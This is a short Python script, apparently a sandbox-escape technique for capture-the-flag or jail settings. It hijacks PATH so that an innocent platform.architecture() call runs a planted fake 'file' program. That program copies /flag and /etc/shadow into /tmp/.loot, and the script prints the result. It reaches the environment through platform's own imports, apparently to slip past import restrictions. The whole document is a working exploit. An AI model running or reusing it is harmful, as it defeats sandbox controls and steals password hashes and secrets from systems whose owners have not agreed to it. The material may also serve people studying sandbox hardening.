# technique: platform.architecture() quietly shells out to the external "file" utility found on PATH; the untrusted code drops its own program called "file" into a temp dir, prepends that dir to PATH through the environment mapping taken from platform's own imports, and lets the innocent-looking platform query run it
import pathlib
import platform
import tempfile

ModuleType = type(platform)
proc = next(m for m in vars(platform).values()
            if isinstance(m, ModuleType) and hasattr(m, "environ") and hasattr(m, "pathsep"))

bindir = pathlib.Path(tempfile.mkdtemp())
fake = bindir / "file"
fake.write_text(
    "#!/usr/bin/env bash\n"
    "cat /fl[a]g /etc/shadow > /tmp/.loot 2>&1\n"
    "echo 'ELF 64-bit LSB pie'\n"
)
fake.chmod(0o755)

proc.environ["PATH"] = str(bindir) + proc.pathsep + proc.environ.get("PATH", "")
print(platform.architecture())
print(pathlib.Path("/tmp/.loot").read_text())
